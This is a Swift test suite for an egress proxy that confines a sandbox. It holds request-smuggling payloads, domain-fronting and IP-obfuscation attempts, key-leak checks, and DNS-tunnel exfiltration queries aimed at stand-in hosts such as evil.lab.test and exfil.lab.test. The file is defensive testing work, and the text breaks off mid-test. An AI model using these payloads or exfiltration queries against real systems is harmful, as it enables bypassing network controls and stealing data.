import Foundation
import XCTest
import FWTestSupport

/// Every attempt runs as the sandbox user against `fwctl up` (AttackLab) and must be
/// blocked, with nothing arriving at the upstream beyond what the assertion names. Each
/// group starts with positive controls (the same client, the same kind of request, for an
/// allowed identity) so that a block cannot be a broken client.
final class AttackTests: AttackLab {
    let anthropic = "anthropic.lab.test"

    /// The attempt was refused with `status` before anything of it went anywhere.
    func assertRefused(_ o: Outcome?, _ status: Int, reason: String? = nil, file: StaticString = #filePath, line: UInt = #line) {
        guard let o else { return XCTFail("no outcome", file: file, line: line) }
        XCTAssertEqual(o.statuses.first, status, mask("\(o)"), file: file, line: line)
        XCTAssertFalse(o.gotThrough, mask("\(o)"), file: file, line: line)
        if let reason {
            XCTAssertTrue((o.response ?? "").contains(reason), "the reason should say \(reason.debugDescription): \(mask("\(o)"))",
                          file: file, line: line)
        }
    }

    /// A TLS-level refusal: the connection is closed before or during the handshake, and no
    /// response comes back.
    func assertClosed(_ o: Outcome?, file: StaticString = #filePath, line: UInt = #line) {
        guard let o else { return XCTFail("no outcome", file: file, line: line) }
        XCTAssertNotEqual(o.tls, "ok", mask("\(o)"), file: file, line: line)
        XCTAssertFalse(o.gotThrough, mask("\(o)"), file: file, line: line)
    }

    func assertControl(_ o: Outcome?, _ statuses: [Int] = [200], file: StaticString = #filePath, line: UInt = #line) {
        guard let o else { return XCTFail("no outcome", file: file, line: line) }
        XCTAssertEqual(o.tunnelStatuses, statuses, "positive control: \(mask("\(o)"))\n\(accessLog())", file: file, line: line)
    }

    func tls(_ name: String, connect: String? = nil, dial: String? = nil, sni: String?, send: [String]) -> Attempt {
        Attempt(name: name, proxy: dial == nil ? "127.0.0.1:3128" : nil, dial: dial, connect: connect, tls: true, sni: sni, send: send)
    }

    // MARK: - Domain fronting

    func testDomainFronting() throws {
        let good443 = "\(Address.good):443", good80 = "\(Address.good):80"
        let controls = try attempt([
            tls("terminated", connect: "\(anthropic):443", sni: anthropic, send: [request("/echo", host: anthropic, headers: [keyHeader])]),
            tls("spliced", connect: "splice.lab.test:443", sni: "splice.lab.test", send: [request("/", host: "splice.lab.test")]),
            tls("transparent", dial: good443, sni: anthropic, send: [request("/echo", host: anthropic, headers: [keyHeader])]),
            Attempt(name: "plain", send: [request("http://plain.lab.test/", host: "plain.lab.test")]),
            Attempt(name: "plain transparent", proxy: nil, dial: good80, send: [request("/", host: "plain.lab.test")]),
        ])
        for o in controls.values { assertControl(o) }

        // The TLS identity against the CONNECT target (or, transparent, the allowed SNI
        // against a name the policy does not allow).
        var m = mark()
        let hello = try attempt([
            tls("splice: SNI of a blocked host", connect: "splice.lab.test:443", sni: "evil.lab.test", send: [request("/", host: "evil.lab.test")]),
            tls("splice: SNI of another allowed host", connect: "splice.lab.test:443", sni: "www.example.test",
                send: [request("/", host: "www.example.test")]),
            tls("splice: no SNI", connect: "splice.lab.test:443", sni: nil, send: [request("/", host: "evil.lab.test")]),
            tls("terminate: SNI of a blocked host", connect: "\(anthropic):443", sni: "evil.lab.test",
                send: [request("/echo", host: "evil.lab.test", headers: [keyHeader])]),
            tls("transparent: SNI of a blocked host", dial: good443, sni: "evil.lab.test", send: [request("/", host: "evil.lab.test")]),
            tls("transparent: no SNI", dial: good443, sni: nil, send: [request("/", host: "evil.lab.test")]),
        ])
        for o in hello.values { assertClosed(o) }
        assertNothingReached(since: m, .noRequest(identity: anthropic), "ClientHello fronting")
        let sawHello = events(since: m).filter { $0["event"] as? String == "sni" && $0["name"] as? String != anthropic }
        XCTAssertTrue(sawHello.isEmpty, "a fronted ClientHello reached the upstream: \(describe(sawHello))")

        // Inside a terminated tunnel (and a redirected TLS connection): every request is
        // held to the identity.
        m = mark()
        let evil = "evil.lab.test"
        let inside = try attempt([
            tls("Host is not the SNI", connect: "\(anthropic):443", sni: anthropic, send: [request("/echo", host: evil, headers: [keyHeader])]),
            tls("Host is not the SNI (transparent)", dial: good443, sni: anthropic, send: [request("/echo", host: evil, headers: [keyHeader])]),
            tls("Host with another port", connect: "\(anthropic):443", sni: anthropic,
                send: [request("/echo", host: "\(anthropic):8443", headers: [keyHeader])]),
            tls("two Host headers", connect: "\(anthropic):443", sni: anthropic,
                send: [request("/echo", host: anthropic, headers: ["Host: \(evil)", keyHeader])]),
            tls("absolute https URI for another host", connect: "\(anthropic):443", sni: anthropic,
                send: [request("https://\(evil)/echo", host: anthropic, headers: [keyHeader])]),
            tls("absolute http URI for another host", connect: "\(anthropic):443", sni: anthropic,
                send: [request("http://\(evil)/echo", host: anthropic, headers: [keyHeader])]),
            tls("absolute URI, both for another host", dial: good443, sni: anthropic,
                send: [request("https://\(evil)/echo", host: evil, headers: [keyHeader])]),
            tls("CONNECT inside the tunnel", connect: "\(anthropic):443", sni: anthropic,
                send: ["CONNECT \(evil):443 HTTP/1.1\r\nHost: \(anthropic)\r\n\(keyHeader)\r\n\r\n"]),
        ])
        for name in ["Host is not the SNI", "Host is not the SNI (transparent)", "Host with another port", "two Host headers",
                     "absolute https URI for another host", "absolute http URI for another host", "absolute URI, both for another host"] {
            assertRefused(inside[name], 421)
        }
        XCTAssertFalse(inside["CONNECT inside the tunnel"]?.gotThrough ?? true, mask("\(inside["CONNECT inside the tunnel"]!)"))
        XCTAssertFalse(inside["CONNECT inside the tunnel"]?.tunnelStatuses.isEmpty ?? true, "a readable refusal")
        assertNothingReached(since: m, .noRequest(identity: anthropic), "requests for another host inside a terminated tunnel")

        // A second request for another host, pipelined on a connection whose first request
        // is allowed: the first goes through, the second never does.
        m = mark()
        let first = request("/echo/first", host: anthropic, headers: [keyHeader], close: false)
        let pipelined = try attempt([
            tls("pipelined Host", connect: "\(anthropic):443", sni: anthropic,
                send: [first + request("/echo/second", host: evil, headers: [keyHeader])]),
            tls("pipelined Host (transparent)", dial: good443, sni: anthropic,
                send: [first + request("/echo/second", host: evil, headers: [keyHeader])]),
            tls("pipelined absolute URI", connect: "\(anthropic):443", sni: anthropic,
                send: [first + request("https://\(evil)/echo/second", host: anthropic, headers: [keyHeader])]),
            tls("second request after a pause", connect: "\(anthropic):443", sni: anthropic,
                send: [first, request("/echo/second", host: evil, headers: [keyHeader])]),
            Attempt(name: "plain: absolute form, Host of another host",
                    send: [request("http://plain.lab.test/plain/second", host: evil)]),
            Attempt(name: "plain: next request for a blocked host",
                    send: [request("http://plain.lab.test/plain/first", host: "plain.lab.test", close: false)
                           + request("http://\(evil)/plain/second", host: evil)]),
            Attempt(name: "plain transparent: next request's Host", proxy: nil, dial: good80,
                    send: [request("/plain/first", host: "plain.lab.test", close: false) + request("/plain/second", host: evil)]),
        ])
        for name in ["pipelined Host", "pipelined Host (transparent)", "pipelined absolute URI", "second request after a pause",
                     "plain transparent: next request's Host"] {
            XCTAssertEqual(pipelined[name]?.tunnelStatuses, [200, 421], mask("\(pipelined[name]!)"))
        }
        XCTAssertEqual(pipelined["plain: next request for a blocked host"]?.tunnelStatuses, [200, 403],
                       mask("\(pipelined["plain: next request for a blocked host"]!)"))
        assertRefused(pipelined["plain: absolute form, Host of another host"], 421)
        let got = requests(since: m)
        XCTAssertEqual(got.compactMap { $0["target"] as? String }.sorted(),
                       ["/echo/first", "/echo/first", "/echo/first", "/echo/first", "/plain/first", "/plain/first"],
                       "only the first request of each connection reaches the upstream:\n\(describe(got))")
        for r in got {
            let host = Self.header(r, "host").first?.lowercased() ?? ""
            XCTAssertTrue(host == anthropic || host == "plain.lab.test", "a request reached the upstream for \(host)")
        }
    }

    // MARK: - Request smuggling

    func testRequestSmuggling() throws {
        let h = "Host: \(anthropic)\r\n\(keyHeader)\r\n"
        let smuggled = "GET /echo/smuggled HTTP/1.1\r\n\(h)Connection: close\r\n\r\n"
        let through = { (name: String, raw: String) in
            self.tls(name, connect: "\(self.anthropic):443", sni: self.anthropic, send: [raw])
        }
        let control = try attempt([
            through("a POST with a body", "POST /echo/control HTTP/1.1\r\n\(h)Content-Length: 5\r\nConnection: close\r\n\r\nhello"),
            through("a chunked POST", "POST /echo/control HTTP/1.1\r\n\(h)Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
        ])
        for o in control.values { assertControl(o) }

        let m = mark()
        let attacks: [(String, String)] = [
            ("Content-Length with Transfer-Encoding",
             "POST /echo/clte HTTP/1.1\r\n\(h)Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled),
            ("Transfer-Encoding with Content-Length",
             "POST /echo/tecl HTTP/1.1\r\n\(h)Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n" + smuggled + "\r\n0\r\n\r\n"),
            ("duplicated Content-Length",
             "POST /echo/clcl HTTP/1.1\r\n\(h)Content-Length: 0\r\nContent-Length: \(smuggled.utf8.count)\r\n\r\n" + smuggled),
            ("Content-Length list",
             "POST /echo/cllist HTTP/1.1\r\n\(h)Content-Length: 0, \(smuggled.utf8.count)\r\n\r\n" + smuggled),
            ("obs-fold header",
             "GET /echo/fold HTTP/1.1\r\n\(h)X-Folded: a\r\n b\r\nConnection: close\r\n\r\n"),
            ("obs-fold Transfer-Encoding",
             "POST /echo/foldte HTTP/1.1\r\n\(h)Content-Length: 6\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + smuggled),
            ("obs-fold Host",
             "GET /echo/foldhost HTTP/1.1\r\nHost: \(anthropic)\r\n evil.lab.test\r\n\(keyHeader)\r\nConnection: close\r\n\r\n"),
            ("space before the colon",
             "POST /echo/space HTTP/1.1\r\n\(h)Content-Length: 6\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + smuggled),
            ("unknown Transfer-Encoding with Content-Length",
             "POST /echo/xchunked HTTP/1.1\r\n\(h)Content-Length: 6\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + smuggled),
        ]
        let outcomes = try attempt(attacks.map { through($0.0, $0.1) } + [
            Attempt(name: "plain: Content-Length with Transfer-Encoding",
                    send: ["GET http://plain.lab.test/plain/clte HTTP/1.1\r\nHost: plain.lab.test\r\nContent-Length: 6\r\n"
                           + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://plain.lab.test/plain/smuggled HTTP/1.1\r\n"
                           + "Host: plain.lab.test\r\nConnection: close\r\n\r\n"], timeout: 1.5),
            Attempt(name: "plain transparent: duplicated Content-Length", proxy: nil, dial: "\(Address.good):80",
                    send: ["GET /plain/clcl HTTP/1.1\r\nHost: plain.lab.test\r\nContent-Length: 0\r\nContent-Length: 41\r\n\r\n"
                           + "GET /plain/smuggled HTTP/1.1\r\nHost: x\r\n\r\n"], timeout: 1.5),
        ])
        // Blocked: no response but a refusal (NIO's parser rejects the head; the connection
        // is closed, or on the plain-HTTP paths left without an answer).
        for (name, o) in outcomes {
            XCTAssertFalse(o.gotThrough, "\(name): \(mask("\(o)"))")
            XCTAssertTrue(o.tunnelStatuses.allSatisfy { $0 >= 400 }, "\(name): \(mask("\(o)"))")
        }
        assertNothingReached(since: m, .noRequest(identity: anthropic), "request smuggling")
    }

    // MARK: - IP literals

    func testIPLiteralsInEveryForm() throws {
        let literals = [
            "203.0.113.40", "203.0.113.40.", "[::ffff:203.0.113.40]", "[::ffff:cb00:7128]", "3405803816", "0313.0.0161.050",
            "0xcb.0.0x71.0x28", "0xcb007128", "203.0.28968", "203.28968", "[2001:db8:40::40]", "[fe80::1%25eth0]", "[fe80::1%eth0]",
            "[::203.0.113.40]", "[64:ff9b::203.0.113.40]", "2130706433", "0x7f.1", "[::1]",
        ]
        let m = mark()
        var attempts = literals.flatMap { lit in [
            Attempt(name: "CONNECT \(lit)", connect: "\(lit):443"),
            Attempt(name: "GET http://\(lit)/", send: [request("http://\(lit)/", host: lit)]),
        ] }
        attempts += [
            Attempt(name: "CONNECT ::ffff:203.0.113.40 unbracketed", connect: "::ffff:203.0.113.40:443"),
            Attempt(name: "GET with an allowed Host", send: [request("http://3405803816/", host: "plain.lab.test")]),
            tls("transparent: no SNI (an IP URL)", dial: "\(Address.good):443", sni: nil, send: [request("/", host: Address.good)]),
            tls("transparent: decimal SNI", dial: "\(Address.good):443", sni: "3405803816", send: [request("/", host: "3405803816")]),
            tls("transparent: octal SNI", dial: "\(Address.good):443", sni: "0313.0.0161.050", send: [request("/", host: "0313.0.0161.050")]),
            Attempt(name: "plain transparent: decimal Host", proxy: nil, dial: "\(Address.good):80", send: [request("/", host: "3405803816")]),
            Attempt(name: "plain transparent: mapped Host", proxy: nil, dial: "\(Address.good):80",
                    send: [request("/", host: "[::ffff:203.0.113.40]")]),
        ]
        let outcomes = try attempt(attempts)
        for lit in literals {
            assertRefused(outcomes["CONNECT \(lit)"], 403, reason: "is an IP address")
            assertRefused(outcomes["GET http://\(lit)/"], 403, reason: "is an IP address")
        }
        assertRefused(outcomes["CONNECT ::ffff:203.0.113.40 unbracketed"], 403, reason: "is an IP address")
        assertRefused(outcomes["GET with an allowed Host"], 403, reason: "is an IP address")
        for name in ["transparent: no SNI (an IP URL)", "transparent: decimal SNI", "transparent: octal SNI"] { assertClosed(outcomes[name]) }
        assertRefused(outcomes["plain transparent: decimal Host"], 403, reason: "is an IP address")
        assertRefused(outcomes["plain transparent: mapped Host"], 403, reason: "is an IP address")
        assertNothingReached(since: m, .nothing, "IP literals")
        // curl's own parsing of the same forms (it normalizes some before the proxy sees them).
        for lit in ["3405803816", "0313.0.0161.050", "[::ffff:203.0.113.40]"] {
            let c = try curl(viaProxy + ["https://\(lit)/"])
            XCTAssertNotEqual(c.exit, 0, c.text)
            XCTAssertTrue(c.text.contains("403"), c.text)
        }
        assertNothingReached(since: m, .nothing, "IP literals through curl")
    }

    // MARK: - Host spellings and wildcards

    func testUpperCaseTrailingDotAndWildcardEdges() throws {
        // The same name in another spelling is the same name: allowed ones still work.
        func assertWorks(_ args: [String], _ what: String, realKey: Bool = false, file: StaticString = #filePath, line: UInt = #line) throws {
            let m = mark()
            let c = try curl(args)
            XCTAssertEqual(c.code, "200", "\(what): \(c.text)\n\(accessLog())", file: file, line: line)
            if realKey {
                let got = requests(since: m)
                XCTAssertEqual(got.count, 1, "\(what): \(describe(got))", file: file, line: line)
                XCTAssertEqual(got.first.map { Self.header($0, "x-api-key") }, [secret], "\(what): the key was injected", file: file, line: line)
            }
        }
        let key = ["-H", keyHeader]
        for spelling in ["ANTHROPIC.LAB.TEST", "anthropic.lab.test.", "Anthropic.Lab.Test."] {
            try assertWorks(viaProxy + fwctlCA + key + ["https://\(spelling)/echo"], "explicit \(spelling)", realKey: true)
            try assertWorks(fwctlCA + key + ["https://\(spelling)/echo"], "transparent \(spelling)", realKey: true)
        }
        for spelling in ["SPLICE.LAB.TEST", "splice.lab.test.", "WWW.EXAMPLE.TEST", "www.example.test."] {
            try assertWorks(viaProxy + upstreamCA + ["https://\(spelling)/"], "spliced \(spelling)")
        }
        try assertWorks(viaProxy + fwctlCA + ["https://API.EXAMPLE.TEST./v1/models"], "terminated under the wildcard")
        try assertWorks(viaProxy + ["http://PLAIN.LAB.TEST./"], "plain HTTP")

        // The DNS filter reads names the same way.
        func dig(_ name: String) throws -> String {
            try asSandboxUser([try tool("dig"), "@\(Lab.Address.resolver)", name, "+time=2", "+tries=1"]).stdout
        }
        for name in ["ANTHROPIC.LAB.TEST", "Www.Example.Test"] {
            XCTAssertTrue(try dig(name).contains("status: NOERROR"), name)
        }
        for name in ["EVIL.LAB.TEST", "example.test", "EXAMPLE.TEST", "evil-example.test", "example.test.evil.test",
                     "www.example.test.evil.test", "anthropic.lab.test.evil.test"] {
            XCTAssertTrue(try dig(name).contains("status: NXDOMAIN"), "the filter answered \(name)")
        }

        // No spelling gets a name the policy does not allow, nor around an entry's rules.
        var m = mark()
        let blocked = ["EVIL.LAB.TEST", "evil.lab.test.", "example.test", "EXAMPLE.TEST.", "evil-example.test", "example.test.evil.test",
                       "www.example.test.evil.test", "anthropic.lab.test.evil.test", "xanthropic.lab.test", "anthropic.lab.test..",
                       ".example.test", "..example.test", "anthropic..lab.test", "www.example.test%2eevil.test", "anthropic.lab.test:443@evil.lab.test"]
        var attempts = blocked.map { Attempt(name: "CONNECT \($0)", connect: "\($0):443") }
        attempts += blocked.map { Attempt(name: "GET http://\($0)/", send: [request("http://\($0)/", host: $0)]) }
        attempts += [
            Attempt(name: "CONNECT to a port not allowed", connect: "ANTHROPIC.LAB.TEST.:8443"),
            Attempt(name: "CONNECT a literal wildcard", connect: "*.example.test:443"),
            tls("transparent SNI evil.lab.test.", dial: "\(Address.good):443", sni: "evil.lab.test.", send: [request("/", host: "evil.lab.test.")]),
            tls("transparent SNI example.test", dial: "\(Address.good):443", sni: "example.test", send: [request("/", host: "example.test")]),
            Attempt(name: "plain transparent: Host EXAMPLE.TEST.", proxy: nil, dial: "\(Address.good):80", send: [request("/", host: "EXAMPLE.TEST.")]),
        ]
        let outcomes = try attempt(attempts)
        for name in blocked {
            XCTAssertTrue([400, 403].contains(outcomes["CONNECT \(name)"]?.statuses.first ?? 0), mask("\(outcomes["CONNECT \(name)"]!)"))
            XCTAssertTrue([400, 403].contains(outcomes["GET http://\(name)/"]?.statuses.first ?? 0), mask("\(outcomes["GET http://\(name)/"]!)"))
        }
        assertRefused(outcomes["CONNECT to a port not allowed"], 403)
        XCTAssertFalse(outcomes["CONNECT a literal wildcard"]?.connect?.hasPrefix("HTTP/1.1 200") ?? true,
                       mask("\(outcomes["CONNECT a literal wildcard"]!)"))
        assertClosed(outcomes["transparent SNI evil.lab.test."])
        assertClosed(outcomes["transparent SNI example.test"])
        assertRefused(outcomes["plain transparent: Host EXAMPLE.TEST."], 403)
        assertNothingReached(since: m, .nothing, "names the policy does not allow, in other spellings")

        // Another spelling of an exact entry under a spliced wildcard still gets the exact
        // entry's rules (terminated, GET /v1/* only), and a terminated entry's method and
        // key rules hold whatever the spelling.
        m = mark()
        let api = "API.EXAMPLE.TEST."
        let rules = try attempt([
            tls("api: path not allowed", connect: "\(api):443", sni: "api.example.test.", send: [request("/admin", host: api)]),
            tls("api: method not allowed", connect: "Api.Example.Test:443", sni: "api.example.test",
                send: [request("/v1/x", method: "POST", host: "api.example.test", body: "x")]),
            tls("api: transparent", dial: "\(Address.good):443", sni: "api.example.test.", send: [request("/admin", host: api)]),
            tls("anthropic: method", connect: "ANTHROPIC.LAB.TEST.:443", sni: "anthropic.lab.test.",
                send: [request("/echo", method: "DELETE", host: "ANTHROPIC.LAB.TEST.", headers: [keyHeader])]),
            tls("anthropic: no key", connect: "Anthropic.Lab.Test:443", sni: anthropic, send: [request("/echo", host: "anthropic.lab.test.")]),
        ])
        for name in ["api: path not allowed", "api: method not allowed", "api: transparent", "anthropic: method", "anthropic: no key"] {
            XCTAssertEqual(rules[name]?.tls, "ok", mask("\(rules[name]!)"))
            assertRefused(rules[name], 403)
        }
        for (name, o) in rules {
            // fwctl's own refusal (a spliced tunnel would have carried the upstream's answer).
            XCTAssertTrue(o.response?.contains("X-Fwctl-Reason") ?? false, "\(name): \(mask("\(o)"))")
        }
        let reached = requests(since: m)
        XCTAssertTrue(reached.isEmpty, "a request got around an entry's rules:\n\(describe(reached))")
    }

    // MARK: - The placeholder and the real key

    func testThePlaceholderInAnotherHeaderIsNeverSwapped() throws {
        let connect = "\(anthropic):443"
        var m = mark()
        let refused = try attempt([
            tls("only in Authorization", connect: connect, sni: anthropic,
                send: [request("/echo/a", host: anthropic, headers: ["Authorization: Bearer \(placeholder)"])]),
            tls("only in another header", connect: connect, sni: anthropic,
                send: [request("/echo/b", host: anthropic, headers: ["X-Api-Key-2: \(placeholder)", "Api-Key: \(placeholder)"])]),
            tls("x-api-key twice", connect: connect, sni: anthropic,
                send: [request("/echo/c", host: anthropic, headers: [keyHeader, keyHeader])]),
            tls("Bearer in x-api-key", connect: connect, sni: anthropic,
                send: [request("/echo/d", host: anthropic, headers: ["x-api-key: Bearer \(placeholder)"])]),
            tls("placeholder with a suffix", connect: connect, sni: anthropic,
                send: [request("/echo/e", host: anthropic, headers: ["x-api-key: \(placeholder)x"])]),
            tls("only in Authorization (transparent)", dial: "\(Address.good):443", sni: anthropic,
                send: [request("/echo/f", host: anthropic, headers: ["Authorization: Bearer \(placeholder)"])]),
        ])
        for (_, o) in refused { assertRefused(o, 403) }
        assertNothingReached(since: m, .noRequest(identity: anthropic), "the placeholder in the wrong place")

        // Allowed requests that carry the placeholder elsewhere too: only x-api-key is
        // swapped; every other copy reaches the upstream as the placeholder.
        m = mark()
        let elsewhere = ["Authorization: Bearer \(placeholder)", "X-Other: \(placeholder)", "Cookie: k=\(placeholder)",
                         "X-Forwarded-Api-Key: \(placeholder)"]
        let passed = try attempt([
            tls("everywhere", connect: connect, sni: anthropic,
                send: [request("/echo/everywhere?key=\(placeholder)", method: "POST", host: anthropic, headers: [keyHeader] + elsewhere,
                               body: "key=\(placeholder)")]),
            tls("another allowed host", connect: "plain.lab.test:443", sni: "plain.lab.test",
                send: [request("/echo/other-host", host: "plain.lab.test", headers: [keyHeader] + elsewhere)]),
            Attempt(name: "plain HTTP", send: [request("http://plain.lab.test/echo/plain", host: "plain.lab.test", headers: [keyHeader] + elsewhere)]),
        ])
        for (_, o) in passed {
            assertControl(o)
            XCTAssertFalse(o.response?.contains(secret) ?? false, mask("\(o)"))
        }
        let got = requests(since: m)
        XCTAssertEqual(got.count, 3, describe(got))
        for r in got {
            let target = r["target"] as? String ?? ""
            let raw = r["raw"] as? String ?? ""
            let expected = target.hasPrefix("/echo/everywhere") ? 1 : 0
            XCTAssertEqual(raw.components(separatedBy: secret).count - 1, expected,
                           "\(target): the real key in the request head \(expected) time(s) expected:\n\(mask(raw))")
            XCTAssertEqual(Self.header(r, "x-api-key"), [expected == 1 ? secret : placeholder], mask(raw))
            for h in elsewhere {
                let name = String(h.prefix { $0 != ":" })
                XCTAssertEqual(Self.header(r, name), [String(h.dropFirst(name.count + 2))], "\(target) \(name): \(mask(raw))")
            }
            XCTAssertFalse((r["body"] as? String ?? "").contains(secret), "\(target): the real key in the body")
        }
    }

    /// An upstream that sends the real key back: the sandbox must never see it.
    func testTheRealKeyEchoedByTheUpstreamNeverReachesTheClient() throws {
        let paths = ["/echo", "/leak/received", "/leak/headers", "/leak/body", "/leak/chunks", "/leak/sse", "/leak/trailer",
                     "/leak/status", "/leak/header-name"]
        let m = mark()
        var attempts = paths.map { tls("terminated \($0)", connect: "\(anthropic):443", sni: anthropic,
                                       send: [request($0, host: anthropic, headers: [keyHeader])]) }
        attempts += ["/leak/received", "/leak/headers", "/leak/chunks"].map { (path: String) in
            tls("transparent \(path)", dial: "\(Address.good):443", sni: anthropic, send: [request(path, host: anthropic, headers: [keyHeader])])
        }
        attempts += ["/leak/headers", "/leak/body", "/leak/chunks", "/leak/trailer"].map { (path: String) in
            Attempt(name: "plain HTTP \(path)", send: [request("http://plain.lab.test\(path)", host: "plain.lab.test")])
        }
        attempts.append(tls("pipelined", connect: "\(anthropic):443", sni: anthropic,
                            send: [request("/leak/chunks", host: anthropic, headers: [keyHeader], close: false)
                                   + request("/leak/headers", host: anthropic, headers: [keyHeader])]))
        // The scrubber holds back a tail that may still become the secret (up to its length
        // minus one byte): the byte-per-byte chunks arrive after a pause.
        for i in attempts.indices { attempts[i].timeout = 8; attempts[i].idle = 2.5 }
        let outcomes = try attempt(attempts)
        for (name, o) in outcomes.sorted(by: { $0.key < $1.key }) {
            XCTAssertEqual(o.end, "eof", "\(name): the whole response, up to the close: \(mask("\(o)"))")
            XCTAssertFalse(o.tunnelStatuses.isEmpty, "\(name): no response: \(mask("\(o)"))")
            XCTAssertFalse((o.response ?? "").contains(secret), "\(name): the client saw the real key:\n\(mask(o.response ?? ""))")
        }
        // Each copy of the secret became the placeholder (the response was scrubbed, not cut).
        let copies = ["/echo": 2, "/leak/received": 1, "/leak/headers": 6, "/leak/body": 3, "/leak/chunks": 6, "/leak/sse": 2]
        for (name, o) in outcomes {
            guard let path = name.split(separator: " ").last.map(String.init), let n = copies[path] else { continue }
            XCTAssertEqual((o.response ?? "").components(separatedBy: placeholder).count - 1, n, "\(name): \(mask("\(o)"))")
        }
        XCTAssertEqual(outcomes["pipelined"]?.tunnelStatuses, [200, 200])
        XCTAssertTrue(outcomes["terminated /echo"]?.response?.contains("key=\(placeholder)") ?? false,
                      "the echo comes back with the placeholder: \(mask("\(outcomes["terminated /echo"]!)"))")
        // The test means something: the upstream did get the real key, and did send it back.
        let got = requests(since: m)
        XCTAssertTrue(got.contains { ($0["target"] as? String) == "/echo" && Self.header($0, "x-api-key") == [secret] },
                      "the upstream did not receive the real key: \(describe(got))")
        let leaks = events(since: m).filter { $0["event"] as? String == "leak" }
        XCTAssertEqual(leaks.count, attempts.count, "every /leak/ response was sent (terminated /echo has none, pipelined two): \(describe(leaks))")

        // Compressed: the client asks for gzip (curl --compressed), the upstream compresses
        // its error message that quotes the key.
        let gz = try curl(viaProxy + fwctlCA + ["--compressed", "-H", keyHeader, "https://\(anthropic)/leak/gzip"])
        XCTAssertEqual(gz.code, "200", gz.text)
        XCTAssertFalse(gz.raw.contains(secret), "the client saw the real key in a compressed body:\n\(gz.text)")
        let plain = try curl(viaProxy + fwctlCA + ["-H", keyHeader, "https://\(anthropic)/leak/gzip"])
        XCTAssertTrue(plain.text.contains("invalid x-api-key: \(placeholder)"), "uncompressed control: \(plain.text)")

        let log = (try? String(contentsOfFile: work("log/access.jsonl"), encoding: .utf8)) ?? ""
        XCTAssertFalse(log.contains(secret), "the real key in the access log")
        XCTAssertFalse(tail(work("proxy.log"), lines: 2000).contains(secret), "the real key in the proxy's output")
    }

    // MARK: - Exfiltration by other paths

    func testDNSExfiltration() throws {
        func dig(_ args: [String]) throws -> String {
            try asSandboxUser([try tool("dig")] + args + ["+time=2", "+tries=1"]).stdout
        }
        // Control: a fresh name under the allowed wildcard is forwarded and shows in the
        // server's query log (the log is what the assertions below read).
        let control = "ctl\(UInt32.random(in: 0 ... .max)).example.test"
        _ = try dig(["@\(Lab.Address.resolver)", control, "A"])
        settle()
        XCTAssertTrue(dns.log.contains(control), "the control query did not reach the server: \(dns.log.suffix(500))")

        let before = try counters()
        let labels = (0..<3).map { _ in (0..<63).map { _ in String("abcdefghijklmnopqrstuvwxyz0123456789".randomElement()!) }.joined() }
        let secretName = labels.joined(separator: ".")
        var tries: [(String, [String])] = []
        for server in [Lab.Address.resolver, DynamicDNS.address, Lab.Address.rogueResolver, Lab.Address.resolver6, "203.0.113.99"] {
            tries.append(("TXT via \(server)", ["@\(server)", "\(secretName).exfil.lab.test", "TXT"]))
        }
        tries += [
            ("TXT over TCP", ["@\(DynamicDNS.address)", "+tcp", "\(secretName).tcp.exfil.lab.test", "TXT"]),
            ("NULL", ["@\(Lab.Address.resolver)", "\(secretName).null.exfil.lab.test", "NULL"]),
            ("ANY", ["@\(Lab.Address.resolver)", "\(secretName).any.exfil.lab.test", "ANY"]),
            ("under an exact allowed name", ["@\(Lab.Address.resolver)", "\(secretName).\(anthropic)", "TXT"]),
            ("under an allowed name, upper case", ["@\(Lab.Address.resolver)", "\(secretName.uppercased()).ANTHROPIC.LAB.TEST", "TXT"]),
            ("A of a blocked host", ["@\(DynamicDNS.address)", "\(labels[0]).evil.lab.test", "A"]),
        ]
        for (what, args) in tries {
            let out = try dig(args)
            XCTAssertTrue(out.contains("status: NXDOMAIN"), "\(what): \(out)")
        }
        // Other ports of a DNS server: DNS over TLS (853), and 5353 (mDNS, the filter's own
        // port number) straight to the server.
        let other = try python("""
            import socket
            q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
            for l in "\(labels[1]).port.exfil.lab.test".split("."):
                q += bytes([len(l)]) + l.encode()
            q += b"\\x00\\x00\\x10\\x00\\x01"
            out = []
            for port in (853, 5353, 5300):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
                try:
                    s.connect(("\(DynamicDNS.address)", port)); s.send(q); s.recv(512); out.append("answered %d" % port)
                except OSError:
                    pass
                t = socket.socket(); t.settimeout(0.5)
                try:
                    t.connect(("\(DynamicDNS.address)", port)); out.append("tcp %d" % port)
                except OSError:
                    pass
            print(out)
            """)
        XCTAssertEqual(other.stdout, "[]\n", other.stderr)
        settle()
        for label in labels {
            XCTAssertFalse(dns.log.lowercased().contains(label), "a label reached the DNS server")
        }
        XCTAssertFalse(dns.log.contains("exfil"), "an exfiltration query reached the DNS server")
        try assertCountersUnchanged(since: before, ["dns-elsewhere4", "dns-elsewhere6", "blocked4"], "DNS to other servers")
    }

    func testSSHQUICPingAndIPv6ToBlockedHosts() throws {
        // Controls: the tools work (loopback answers everything).
        let pingScript = """
            import socket, struct, sys
            out = []
            for host in sys.argv[1:]:
                v6 = ":" in host
                s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM,
                                  socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP)
                s.settimeout(0.7)
                try:
                    s.sendto(struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, 0, 1) + b"fwctl-attack", (host, 0))
                    out.append("reply" if s.recv(2048)[0] in (0, 129) else "other")
                except socket.timeout:
                    out.append("timeout")
                except OSError as e:
                    out.append("error")
            print(" ".join(out))
            """
        let udpScript = """
            import socket, sys
            out = []
            for host in sys.argv[1:]:
                s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
                s.settimeout(0.7)
                try:
                    s.connect((host, 443)); s.send(b"\\xc0\\x00\\x00\\x00\\x01fwctl-quic-initial"); s.recv(2048); out.append("answered")
                except socket.timeout:
                    out.append("timeout")
                except OSError:
                    out.append("error")
            print(" ".join(out))
            """
        let python = try tool("python3")
